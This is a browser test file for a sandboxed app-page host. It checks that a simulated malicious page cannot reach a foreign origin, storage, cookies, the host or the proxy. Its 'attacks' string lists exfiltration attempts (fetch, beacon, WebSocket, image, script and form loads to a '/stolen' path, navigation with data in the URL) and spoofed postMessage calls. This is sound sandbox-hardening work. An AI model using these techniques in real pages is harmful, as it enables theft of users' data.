/** A page in Chromium, in the sandbox of a host. Needs a browser: see `packages/client/test/browser`. */
import { assert, describe, expect, it } from "@effect/vitest"
import * as App from "@skein/apps/App"
import * as AppHtml from "@skein/apps/AppHtml"
import * as Effect from "effect/Effect"
import * as Schema from "effect/Schema"
import { browser } from "../../auth/test/proxy/chromium.ts"
import { find } from "../../client/test/browser/chromium.ts"
import * as kit from "./browserKit.ts"

const chromium = find()

const pageOf = (script: string, options: Omit<App.Options, "html"> = {}) =>
  App.make("ui://test/page", {
    ...options,
    html: AppHtml.document({
      title: "Test",
      withView: true,
      body: "<p id=p>Test</p>",
      script: `
        const view = globalThis.view = SkeinView.make({ name: "test", version: "1.0.0" })
        view.on("input", async ({ foreign }) => { ${script} })
        view.connect()
      `
    })
  })

const show = (app: App.App) =>
  App.layer(App.tool("show", { app, input: { foreign: Schema.String } }), ({ foreign }) => Effect.succeed(foreign))

/** The attacks of a malicious page. Each attack reports whether it got through. */
const attacks = `
  const found = {}
  const tried = async (name, attack) => {
    try { found[name] = await attack() ?? "nothing" } catch (error) { found[name] = "refused" }
  }
  const secret = "/stolen"
  await tried("fetch", async () => (await fetch(foreign + secret + "?fetch")).status)
  await tried("beacon", () => { navigator.sendBeacon(foreign + secret + "?beacon", "x") })
  await tried("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(foreign.replace("http", "ws") + secret + "?socket")
    socket.onopen = () => resolve("open")
    socket.onerror = reject
  }))
  const load = (name, attributes) => new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(name), attributes)
    element.onload = () => resolve("loaded")
    element.onerror = reject
    document.body.append(element)
  })
  await tried("image", () => load("img", { src: foreign + secret + "?image" }))
  await tried("script", () => load("script", { src: foreign + secret + "?script" }))
  await tried("style", () => load("link", { rel: "stylesheet", href: foreign + secret + "?style" }))
  await tried("eval", () => eval("1 + 1"))
  await tried("storage", () => { localStorage.setItem("a", "b"); return "stored" })
  await tried("cookie", () => { document.cookie = "a=b"; return document.cookie })
  await tried("proxy", () => parent.document.title)
  await tried("host", () => top.document.title)
  await tried("popup", () => window.open(foreign + secret + "?popup") === null ? "refused" : "opened")
  await tried("top", () => { top.location = foreign + secret + "?top"; return "left" })
  await tried("frame", () => { parent.location = foreign + secret + "?frame"; return "left" })
  await tried("hostMessage", () => { top.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data: "spoofed" } }, "*") })
  await tried("sandboxMessage", () => { parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "<p>other" } }, "*") })
  const form = Object.assign(document.createElement("form"), { action: foreign + secret + "?form", method: "post" })
  document.body.append(form)
  await tried("form", () => { form.submit() })
  for (const name of ["camera", "microphone", "geolocation", "clipboard-write"]) {
    found[name] = document.featurePolicy.allowsFeature(name)
  }
  found.origin = self.origin
  view.log("info", found)
  // Leaves the page, at the end: with data in the address.
  setTimeout(() => { location.href = foreign + secret + "?navigation" }, 100)
`

if (chromium === undefined) {
  const name = "a browser is needed: install Debian's `chromium`, or set CHROMIUM to one"
  it.skipIf((process.env["CI"] ?? "") === "")(name, () => assert.fail("there is no Chromium in the PATH"))
} else {
  /** Shows a page that declares addresses of another origin, until its first log. The code finds the origin as `foreign`. */
  const declaring = Effect.fnUntraced(function*(code: string, connectDomains: (foreign: string) => Array<string>) {
    const script = yield* Effect.promise(() => kit.bundle({ text: kit.hostScript() }))
    const { foreign } = yield* kit.open(script, [])
    const app = pageOf(code, { csp: { connectDomains: connectDomains(foreign.origin) } })
    const { url } = yield* kit.open(script, [show(app)])
    url.searchParams.set("foreign", foreign.origin)
    const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
    yield* Effect.promise(async () => {
      await tab.goto(url)
      await tab.until("state.logs.length > 0")
    })
    return { foreign, tab }
  })

  describe("a malicious page", () => {
    it.live(
      "reaches no other origin, no storage, neither the host nor the proxy, and no permission but those granted",
      () =>
        Effect.scoped(Effect.gen(function*() {
          const app = pageOf(attacks, { permissions: ["camera", "geolocation", "clipboardWrite"] })
          const script = yield* Effect.promise(() => kit.bundle({ text: kit.hostScript() }))
          const { foreign, url } = yield* kit.open(script, [show(app)])
          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
          yield* Effect.promise(async () => {
            await tab.goto(url)
            await tab.until("state.logs.length > 0")
            expect(await tab.evaluate("state.logs")).toEqual([{
              fetch: "refused",
              beacon: "nothing",
              socket: "refused",
              image: "refused",
              script: "refused",
              style: "refused",
              eval: "refused",
              storage: "refused",
              cookie: "refused",
              proxy: "refused",
              host: "refused",
              popup: "refused",
              top: "refused",
              frame: "refused",
              // Sent, but not received: the frame of the sandbox is the only source that the host listens to.
              hostMessage: "nothing",
              sandboxMessage: "nothing",
              form: "nothing",
              camera: false,
              microphone: false,
              geolocation: false,
              "clipboard-write": true,
              origin: "null"
            }])
            await tab.logged("frame-src")
            // The host is where it was, and the other origin has received nothing.
            expect(await tab.evaluate("location.origin")).toBe(url.origin)
            expect(foreign.paths).toEqual([])
          })
        })),
      120_000
    )

    it.live(
      "reaches the origins that it declares, as far as the host allows them",
      () =>
        Effect.scoped(Effect.gen(function*() {
          const { foreign, tab } = yield* declaring(
            `view.log("info", { declared: await fetch(foreign + "/data").then((answer) => answer.status) })`,
            (foreign) => [foreign, "https://refused.example"]
          )
          yield* Effect.promise(async () => {
            expect(await tab.evaluate("state.logs[0]")).toEqual({ declared: 200 })
            expect(foreign.paths).toEqual(["/data"])
            expect(await tab.evaluate("state.session.policy.rejected.map(({ value }) => value)")).toEqual([
              "\"https://refused.example\""
            ])
          })
        })),
      120_000
    )
  })

  describe("a page", () => {
    it.live(
      "has the theme of the host and its changes, reports its size, and prepares for its end",
      () =>
        Effect.scoped(Effect.gen(function*() {
          const app = pageOf(`
          view.on("teardown", (reason) => view.log("info", { teardown: reason }))
          view.on("context", ({ theme }) => {
            p.style.height = "333px"
            const { colorScheme } = getComputedStyle(document.documentElement)
            view.log("info", { theme, colorScheme, set: document.documentElement.dataset.theme })
          })
        `)
          const text = kit.hostScript() + `globalThis.run = Effect.runPromise`
          const script = yield* Effect.promise(() => kit.bundle({ text }))
          const { url } = yield* kit.open(script, [show(app)])
          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
          yield* Effect.promise(async () => {
            await tab.goto(url)
            await tab.until("state.logs.length === 1")
            await tab.evaluate("run(state.session.setContext({ theme: 'dark' }))")
            await tab.until("state.logs.length === 2")
            expect(await tab.evaluate("state.logs")).toEqual([
              { theme: "light", colorScheme: "light", set: "light" },
              { theme: "dark", colorScheme: "dark", set: "dark" }
            ])
            await tab.until("parseInt(frame.style.height) > 333".replace("frame", "document.querySelector('iframe')"))
            await tab.evaluate("run(state.session.teardown('closed'))")
            expect(await tab.evaluate("state.logs.at(-1)")).toEqual({ teardown: "closed" })
          })
        })),
      120_000
    )

    it.live(
      "2.0.4 · saves a file, asks the model and asks for its end through the host",
      () =>
        Effect.scoped(Effect.gen(function*() {
          const app = pageOf(`
          view.on("teardown", () => view.log("info", "prepared"))
          const resource = { uri: "file:///sales.csv", mimeType: "text/csv", text: "1,2" }
          await view.downloadFile([{ type: "resource", resource }])
          const messages = [{ role: "user", content: { type: "text", text: "Summarize" } }]
          const { content } = await view.sample({ messages, maxTokens: 10 })
          view.log("info", content.text)
          const refused = await view.sample({ messages, maxTokens: 10, tools: [] }).catch(({ reason }) => reason)
          view.log("info", refused)
          view.requestTeardown()
        `)
          const options = `
            downloadFile: ([{ resource }]) => Effect.sync(() => state.logs.push(resource.text)),
            sample: ({ messages: [{ content }] }) =>
              Effect.succeed({ role: "assistant", model: "m", content: { type: "text", text: content.text + "d" } }),
            requestTeardown: Effect.suspend(() => Effect.andThen(
              state.session.teardown(),
              Effect.sync(() => { frame.remove(); state.logs.push("removed") })
            ))
          `
          const script = yield* Effect.promise(() => kit.bundle({ text: kit.hostScript(options) }))
          const { url } = yield* kit.open(script, [show(app)])
          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
          yield* Effect.promise(async () => {
            await tab.goto(url)
            await tab.until("state.logs.includes('removed')")
            expect(await tab.evaluate("state.logs")).toEqual([
              "1,2",
              "Summarized",
              "Unsupported",
              "prepared",
              "removed"
            ])
          })
        })),
      120_000
    )

    it.live(
      "reaches a path that it declares, and no other path of the origin",
      () =>
        Effect.scoped(Effect.gen(function*() {
          const { foreign, tab } = yield* declaring(
            `
            const status = (path) => fetch(foreign + path).then((answer) => answer.status, () => "refused")
            view.log("info", [await status("/open_data/a"), await status("/other")])
            `,
            (foreign) => [foreign + "/open_data/"]
          )
          yield* Effect.promise(async () => {
            expect(await tab.evaluate("state.logs[0]")).toEqual([200, "refused"])
            expect(foreign.paths).toEqual(["/open_data/a"])
          })
        })),
      120_000
    )

    it.live(
      "is not shown by a sandbox with the origin of the host, nor by one that is for another host",
      () =>
        Effect.scoped(Effect.gen(function*() {
          const script = yield* Effect.promise(() => kit.bundle({ text: kit.hostScript() }))
          const { url } = yield* kit.open(script, [show(pageOf(""))], { hostOrigins: ["https://other.example"] })
          const tab = yield* Effect.flatMap(browser(chromium), (open) => Effect.promise(open))
          yield* Effect.promise(async () => {
            await tab.goto(url)
            await tab.until("state.failed")
            expect(await tab.evaluate("state.failed")).toMatch(/was not ready within 10 seconds/)
            const same = new URL(url)
            same.searchParams.set("sandbox", url.origin)
            await tab.goto(same)
            await tab.until("state.failed")
            expect(await tab.evaluate("state.failed")).toMatch(/must have another origin than the host/)
          })
        })),
      120_000
    )
  })
}
